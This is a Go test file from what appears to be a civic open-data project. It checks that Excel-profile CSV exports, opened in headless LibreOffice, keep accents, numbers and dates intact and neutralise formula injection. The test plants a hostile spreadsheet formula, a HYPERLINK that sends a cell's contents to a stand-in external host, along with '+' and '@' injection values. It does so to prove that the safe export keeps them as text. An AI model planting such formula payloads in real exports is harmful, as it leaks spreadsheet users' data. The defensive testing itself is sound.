package datasets_test

import (
	"encoding/csv"
	"encoding/xml"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/observatorio-civico/observatorio/datasets"
	"github.com/observatorio-civico/observatorio/datasets/datasetstest"
	"github.com/observatorio-civico/observatorio/warehouse/whtest"
)

// sheetCell is one cell of a spreadsheet converted by LibreOffice.
type sheetCell struct {
	Type    string // string, float, date...
	Value   string // office:value for numbers
	Formula string // table:formula, when the cell is a formula
	Text    string
}

// readFODS reads the first sheet of a flat ODS file into rows of cells.
func readFODS(t *testing.T, path string) [][]sheetCell {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	dec := xml.NewDecoder(f)
	var rows [][]sheetCell
	var row []sheetCell
	var cell *sheetCell
	repeat := 1
	inP := false
	tables := 0
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		switch x := tok.(type) {
		case xml.StartElement:
			switch x.Name.Local {
			case "table":
				tables++
			case "table-row":
				row = nil
			case "table-cell", "covered-table-cell":
				cell, repeat = &sheetCell{}, 1
				for _, a := range x.Attr {
					switch a.Name.Local {
					case "value-type":
						if a.Name.Space != "urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" {
							cell.Type = a.Value
						}
					case "value", "date-value":
						cell.Value = a.Value
					case "formula":
						cell.Formula = a.Value
					case "number-columns-repeated":
						repeat, _ = strconv.Atoi(a.Value)
					}
				}
			case "p":
				inP = true
			}
		case xml.CharData:
			if inP && cell != nil {
				cell.Text += string(x)
			}
		case xml.EndElement:
			switch x.Name.Local {
			case "p":
				inP = false
			case "table-cell", "covered-table-cell":
				if repeat > 100 { // trailing empty columns
					repeat = 1
				}
				for i := 0; i < repeat; i++ {
					row = append(row, *cell)
				}
				cell = nil
			case "table-row":
				if tables == 1 {
					rows = append(rows, row)
				}
			}
		}
	}
	return rows
}

// convert turns CSV files into flat ODS with LibreOffice, headless, with
// the import options of a Spanish (Colombia) spreadsheet: the separator
// given, UTF-8, es-CO number formats, special numbers (dates) detected and
// formula evaluation ON, the worst case for formula injection.
func convertWithLibreOffice(t *testing.T, sep byte, files ...string) {
	t.Helper()
	dir := filepath.Dir(files[0])
	profile := "file://" + filepath.Join(t.TempDir(), "perfil")
	args := []string{"--headless", "--norestore", "-env:UserInstallation=" + profile,
		"--infilter=CSV:" + strconv.Itoa(int(sep)) + ",34,76,1,,9226,false,true,false,false,false,,true",
		"--convert-to", "fods", "--outdir", dir}
	cmd := exec.Command("soffice", append(args, files...)...)
	cmd.Env = append(os.Environ(), "HOME="+t.TempDir())
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("soffice: %v\n%s", err, out)
	}
	for _, f := range files {
		if _, err := os.Stat(strings.TrimSuffix(f, ".csv") + ".fods"); err != nil {
			t.Fatalf("soffice no convirtió %s:\n%s", f, out)
		}
	}
}

// TestExcelProfileInLibreOffice opens the Excel-profile CSVs of real
// releases in LibreOffice Calc (headless conversion, es-CO): accents are
// intact, numbers are numbers (decimal comma read as a decimal), dates are
// dates, and a source value written to run as a formula stays text. The
// same hostile value in the plain CSV does run as a formula, so the check
// can fail.
func TestExcelProfileInLibreOffice(t *testing.T) {
	if _, err := exec.LookPath("soffice"); err != nil {
		t.Skip("LibreOffice no está instalado (apt-get install libreoffice-calc-nogui): se omite la prueba de apertura en hoja de cálculo")
	}
	e := whtest.Embedded(t)
	ctx := datasetstest.Ctx(t)
	datasetstest.Load(t, e)
	// A hostile source: an entity whose names would run as formulas.
	hostile := `=HYPERLINK("http://example.org/robar?d="&A1;"Clic aquí")`
	if err := e.Insert(ctx, "entities", []string{"code", "department_code", "department_name", "name", "kind", "updated_at"},
		[][]any{{"99999", "99", "+57 300 000 0000", hostile, "@SUMA(1;2)", time.Now().UTC().Truncate(time.Second)}}); err != nil {
		t.Fatal(err)
	}
	if _, err := datasets.Publish(ctx, e, datasets.PublishOptions{Datasets: []string{"entidades"}}); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	save := func(id, format string) string {
		rel, err := datasets.Latest(ctx, e, id)
		if err != nil {
			t.Fatal(err)
		}
		name := datasets.FileName(id, format)
		r, err := datasets.OpenFile(ctx, e, rel, name)
		if err != nil {
			t.Fatal(err)
		}
		defer r.Close()
		b, _ := io.ReadAll(r)
		path := filepath.Join(dir, strings.ReplaceAll(name, ".excel.csv", "-excel.csv"))
		os.WriteFile(path, b, 0o644)
		return path
	}
	ent, mon := save("entidades", datasets.FormatExcel), save("recaudo-mensual", datasets.FormatExcel)
	plain := save("entidades", datasets.FormatCSV)
	convertWithLibreOffice(t, ';', ent, mon)
	convertWithLibreOffice(t, ',', plain)

	// No formula anywhere in the Excel profile.
	for _, p := range []string{ent, mon} {
		for i, row := range readFODS(t, strings.TrimSuffix(p, ".csv")+".fods") {
			for j, c := range row {
				if c.Formula != "" {
					t.Errorf("%s fila %d columna %d: fórmula %q", filepath.Base(p), i+1, j+1, c.Formula)
				}
			}
		}
	}
	// Accents intact; the hostile names are text.
	rows := readFODS(t, strings.TrimSuffix(ent, ".csv")+".fods")
	found := map[string]bool{}
	for _, row := range rows[1:] {
		if len(row) < 5 {
			continue
		}
		found[row[3].Text] = true
		if row[0].Text == "99999" {
			if row[3].Type != "string" || row[3].Text != "'"+hostile || row[2].Text != "'+57 300 000 0000" || row[4].Text != "'@SUMA(1;2)" {
				t.Errorf("fila hostil: %+v", row)
			}
		}
	}
	for _, want := range []string{"CÁQUEZA", "BOGOTÁ. D.C.", "'" + hostile} {
		if !found[want] {
			t.Errorf("LibreOffice no muestra %q tal cual", want)
		}
	}
	// Numbers are numbers, equal to the plain CSV's values.
	rows = readFODS(t, strings.TrimSuffix(mon, ".csv")+".fods")
	head := map[string]int{}
	for j, c := range rows[0] {
		head[c.Text] = j
	}
	rel, _ := datasets.Latest(ctx, e, "recaudo-mensual")
	r, _ := datasets.OpenFile(ctx, e, rel, "recaudo-mensual.csv")
	recs, err := csv.NewReader(r).ReadAll()
	r.Close()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) < len(recs) {
		t.Fatalf("LibreOffice leyó %d filas, el CSV tiene %d", len(rows), len(recs))
	}
	numbers := 0
	for i, rec := range recs[1:] {
		row := rows[i+1]
		for _, col := range []string{"recaudo", "facturado", "pagos"} {
			j := head[col]
			v := rec[j]
			if v == "" {
				continue
			}
			c := row[j]
			want, _ := strconv.ParseFloat(v, 64)
			got, err := strconv.ParseFloat(c.Value, 64)
			if c.Type != "float" || err != nil || got != want {
				t.Errorf("fila %d, %s: LibreOffice leyó %+v, el valor es %s", i+2, col, c, v)
			} else {
				numbers++
			}
		}
		if c := row[head["mes"]]; c.Type != "date" || c.Value != rec[head["mes"]] {
			t.Errorf("fila %d, mes: %+v", i+2, c)
		}
	}
	if numbers == 0 {
		t.Error("ningún número comprobado")
	}
	// Control: the plain CSV (not meant for spreadsheets) lets the hostile
	// value run, which is why the Excel profile exists.
	formulas := 0
	for _, row := range readFODS(t, strings.TrimSuffix(plain, ".csv")+".fods") {
		for _, c := range row {
			if c.Formula != "" {
				formulas++
			}
		}
	}
	if formulas == 0 {
		t.Error("control: LibreOffice no evaluó la fórmula del CSV sin neutralizar; la prueba no estaría comprobando nada")
	}
}
